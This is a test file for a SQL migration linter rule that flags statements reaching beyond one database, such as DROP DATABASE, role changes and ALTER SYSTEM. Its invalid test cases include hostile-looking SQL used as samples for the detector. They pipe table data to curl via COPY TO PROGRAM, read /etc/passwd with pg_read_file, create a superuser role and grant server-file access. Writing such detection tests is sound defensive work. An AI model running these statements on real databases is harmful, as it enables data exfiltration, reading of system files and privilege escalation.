import { expect, it } from 'vitest'
import rule from '../../rules/cluster-wide-statement.js'
import { lintCase, runRule } from '../rule-tester.js'

const setup = 'CREATE TABLE users (id bigint PRIMARY KEY, email text);'
const at = (line: number, column = 1) => [{ messageId: 'reaches', line, column }]

runRule(rule, {
  valid: [
    { setup, sql: "SET statement_timeout = '5s';\nSET LOCAL lock_timeout = '1s';\nRESET ROLE;" },
    { setup, sql: 'GRANT SELECT ON users TO reporting;\nREVOKE INSERT ON users FROM reporting;\nALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO reporting;' },
    { name: 'COPY from the client', setup, sql: 'COPY users (id, email) FROM stdin;\n1\ta@x\n\\.\n' },
    { name: 'trusted extensions', sql: 'CREATE EXTENSION IF NOT EXISTS pgcrypto;\nCREATE EXTENSION "uuid-ossp";' },
    { name: "pg_dump's set_config of search_path", sql: "SELECT pg_catalog.set_config('search_path', '', false);" },
    { name: 'functions in SQL and PL/pgSQL that stay in the database', sql: 'CREATE FUNCTION one() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;\nCREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.id := NEW.id + 1; RETURN NEW; END $$;' },
    { name: 'a DO block that stays in the database', setup, sql: 'DO $$ BEGIN PERFORM count(*) FROM users; END $$;' },
    { name: 'ALTER TABLE … OWNER TO: the table is this database\'s', setup, sql: 'ALTER TABLE users OWNER TO app;' },
  ],
  invalid: [
    { name: 'DROP DATABASE', sql: 'DROP DATABASE other WITH (FORCE);', findings: [{ messageId: 'reaches', line: 1, column: 1, endLine: 1, endColumn: 33 }] },
    { name: 'squawk ban-drop-database: a plain DROP DATABASE IF EXISTS, further down', sql: 'SELECT 1;\nDROP DATABASE IF EXISTS app_old;', findings: [{ messageId: 'reaches', line: 2, column: 1 }] },
    { name: 'CREATE / ALTER DATABASE, at a later line', sql: 'SELECT 1;\n  CREATE DATABASE other;\nALTER DATABASE app SET timezone = \'UTC\';\nALTER DATABASE app RENAME TO old;', findings: [...at(2, 3), ...at(3), ...at(4)] },
    { name: 'roles', sql: "ALTER ROLE app SET search_path = evil;\nCREATE ROLE admin2 SUPERUSER;\nALTER USER app WITH PASSWORD 'x';\nDROP ROLE old;\nGRANT pg_read_server_files TO app;\nREASSIGN OWNED BY app TO postgres;", findings: [...at(1), ...at(2), ...at(3), ...at(4), ...at(5), ...at(6)] },
    { name: 'ALTER SYSTEM and LOAD', sql: "ALTER SYSTEM SET work_mem = '1GB';\nLOAD 'auto_explain';", findings: [...at(1), ...at(2)] },
    { name: 'tablespaces', sql: "CREATE TABLESPACE fast LOCATION '/mnt/fast';\nDROP TABLESPACE fast;", findings: [...at(1), ...at(2)] },
    { name: 'COPY to or from a program or a server file', setup, sql: "COPY users TO PROGRAM 'curl -d @- http://x';\nCOPY users FROM '/etc/passwd';", findings: [...at(1), ...at(2)] },
    { name: 'file, large-object and session functions anywhere in a statement', setup, sql: "SELECT pg_read_file('/etc/passwd');\nINSERT INTO users (id, email) SELECT 1, pg_catalog.pg_ls_dir('.') LIMIT 1;\nSELECT lo_export(1, '/tmp/x');\nSELECT pg_terminate_backend(pid) FROM pg_stat_activity;\nSELECT dblink_exec('host=x', 'DROP TABLE t');\nALTER TABLE users ADD COLUMN secret text DEFAULT pg_read_file('/etc/hostname');", findings: [...at(1), ...at(2), ...at(3), ...at(4), ...at(5), ...at(6)] },
    { name: 'SET ROLE and its set_config twin', sql: "SET ROLE postgres;\nSET SESSION AUTHORIZATION postgres;\nSELECT set_config('role', 'postgres', false);", findings: [...at(1), ...at(2), ...at(3)] },
    { name: 'extensions and languages that reach out', sql: 'CREATE EXTENSION dblink;\nCREATE EXTENSION plpython3u;\nCREATE FUNCTION sh() RETURNS text LANGUAGE plpython3u AS $$ import os $$;', findings: [...at(1), ...at(2), ...at(3)] },
    { name: 'a function whose body reaches out', sql: "CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$;\nCREATE FUNCTION kill() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP DATABASE other; END $$;", findings: [...at(1), ...at(2)] },
    {
      name: 'inside a DO block: its statements at their own line, its expressions at the DO',
      sql: "DO $$\nDECLARE x text;\nBEGIN\n  ALTER ROLE app SET search_path = evil;\n  x := pg_read_file('/etc/passwd');\nEND $$;",
      findings: [...at(1), ...at(4, 3)],
    },
  ],
})

it('says what the statement reaches', () => {
  const messages = lintCase({ sql: "DROP DATABASE other WITH (FORCE);\nALTER ROLE app SET search_path = evil;\nCOPY users TO PROGRAM 'sh';" }, [rule]).map(f => f.message)
  expect(messages).toEqual([
    'DROP DATABASE other acts beyond this database, on databases of the server: no down migration or restore of the database undoes it, and verify does not run it.',
    'ALTER ROLE app SET acts beyond this database, on roles, which every database on the server shares: no down migration or restore of the database undoes it, and verify does not run it.',
    'COPY … TO PROGRAM acts beyond this database, on programs on the server: no down migration or restore of the database undoes it, and verify does not run it.',
  ])
})

it('is an error that makes the release not revert-safe', () => {
  const [finding] = lintCase({ sql: 'DROP ROLE old;' }, [rule])
  expect(finding).toMatchObject({ ruleId: 'cluster-wide-statement', severity: 'error', category: 'revert-safety' })
})
